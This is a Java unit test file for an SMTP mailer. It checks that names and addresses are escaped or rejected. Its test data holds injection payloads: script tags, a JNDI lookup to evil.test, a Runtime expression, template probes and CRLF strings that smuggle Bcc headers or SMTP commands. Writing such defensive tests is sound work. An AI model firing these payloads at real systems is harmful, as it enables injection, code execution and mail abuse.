package dev.footbridge.mail;

import static org.assertj.core.api.Assertions.assertThat;

import dev.footbridge.address.EmailAddress;
import dev.footbridge.address.ParsedAddress;
import dev.footbridge.spi.Mailer.Mail;
import dev.footbridge.spi.Mailer.Result;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Names that want to be more than names, read from the bytes on the wire. */
final class HostileTextTest {
    private final ScriptedSmtp server = new ScriptedSmtp();

    @AfterEach
    void stop() {
        server.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "${jndi:ldap://evil.test/a}",
                "#{T(java.lang.Runtime)}",
                "{{7*7}}",
                "{product}",
                "$1 \\1 \\",
                "%0d%0aBcc: evil@evil.test",
            })
    void a_name_comes_out_as_it_went_in_and_does_nothing(String name) throws Exception {
        Received mail = received(name);

        assertThat(mail.text()).contains("Hello " + name + ",").contains(" at " + name);
        assertThat(mail.html()).contains("Hello " + Html.escape(name) + ",").doesNotContain("<script", "<img", "49");
        assertThat(mail.headers()).doesNotContain("evil", "script", "jndi");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Kalle\r\nBcc: evil@evil.test\r\n\r\nbody",
                "Kalle\nBcc: evil@evil.test",
                "Kalle\r\n.\r\nMAIL FROM:<evil@evil.test>",
                "Kalle\u760D\u760ABcc: evil@evil.test",
                "Kalle\u0000\u0085\u2028Bcc: evil@evil.test",
            })
    void line_breaks_in_names_make_no_lines(String name) throws Exception {
        Received mail = received(name);

        assertThat(server.heard).filteredOn(line -> line.startsWith("MAIL")).hasSize(1);
        assertThat(mail.headers()).doesNotContain("evil", "Kalle", "Bcc");
        assertThat(mail.text().lines()).noneMatch(line -> line.startsWith("Bcc") || line.startsWith("MAIL"));
        assertThat(mail.text().lines())
                .filteredOn(line -> line.startsWith("Hello Kalle"))
                .hasSize(1);
    }

    @Test
    void nothing_turns_the_direction_of_writing_or_hides() throws Exception {
        Received mail = received("An\u202Ena\u2066 \u200BÖ\uFEFFb\u00ADe\u061Crg");

        assertThat(mail.text()).contains("Hello Anna Öberg,");
        assertThat(mail.html()).contains("Hello Anna Öberg,");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Anna", "Kalle\r\nX: y", "\u760D\u760A", "<b>", "\u202E"})
    void every_byte_on_the_wire_is_plain_and_every_line_short(String name) throws Exception {
        received(name);

        String wire = server.wire();
        assertThat(wire.chars()).allMatch(c -> c == '\r' || c == '\n' || c == '\t' || (c >= ' ' && c < 0x7F));
        assertThat(wire.replace("\r\n", "")).doesNotContain("\r", "\n");
        assertThat(List.of(wire.split("\r\n"))).allMatch(line -> line.length() <= 998);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "o'brien@foretaget.example",
                "=1+1@foretaget.example",
                "+46701234567@foretaget.example",
                "a_b-c{d}|e~@foretaget.example",
                "#$&*/?^`@foretaget.example",
                "anna@xn--rksmrgs-5wao1o.example",
            })
    void odd_but_good_addresses_are_the_same_for_both_parsers(String address) {
        EmailAddress to = EmailAddress.of(address);

        assertThat(Recipient.of(to))
                .hasValueSatisfying(read -> assertThat(read.getAddress()).isEqualTo(to.canonical()));
        Result result = mailer().send(to(to));
        assertThat(result.kind()).isEqualTo(Result.Kind.ACCEPTED);
        assertThat(server.heard).contains("RCPT TO:<" + to.canonical() + ">");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<a@evil.test>b@company.test",
                "a@company.test,b@evil.test",
                "\"a@evil.test\"@company.test",
                "a@company.test(comment)",
                "group:a@evil.test;",
                "a@company.test\r\nRCPT TO:<b@evil.test>",
                "\u760Dx\u760A@company.test",
            })
    void what_is_no_address_of_ours_cannot_be_handed_in(String text) {
        assertThat(EmailAddress.parse(text)).isNotInstanceOf(ParsedAddress.Accepted.class);
    }

    private SmtpMailer mailer() {
        return Scenes.mailer(Scenes.local(server.port()).build());
    }

    private static Mail to(EmailAddress address) {
        Mail mail = Scenes.mail(Scenes.code());
        return new Mail(
                mail.id(), address, mail.locale(), mail.zone(), mail.tenantName(), mail.personName(), mail.content());
    }

    private Received received(String name) throws Exception {
        Result result = mailer().send(Scenes.mail(Scenes.code(), Locale.ENGLISH, name, name));
        assertThat(result.kind()).isEqualTo(Result.Kind.ACCEPTED);
        String wire = server.wire();
        MimeMessage message =
                new MimeMessage(null, new ByteArrayInputStream(wire.getBytes(StandardCharsets.ISO_8859_1)));
        MimeMultipart parts = (MimeMultipart) message.getContent();
        return new Received(
                wire.substring(0, wire.indexOf("\r\n\r\n")),
                ((String) parts.getBodyPart(0).getContent()).replace("\r\n", "\n"),
                (String) parts.getBodyPart(1).getContent());
    }

    private record Received(String headers, String text, String html) {}
}
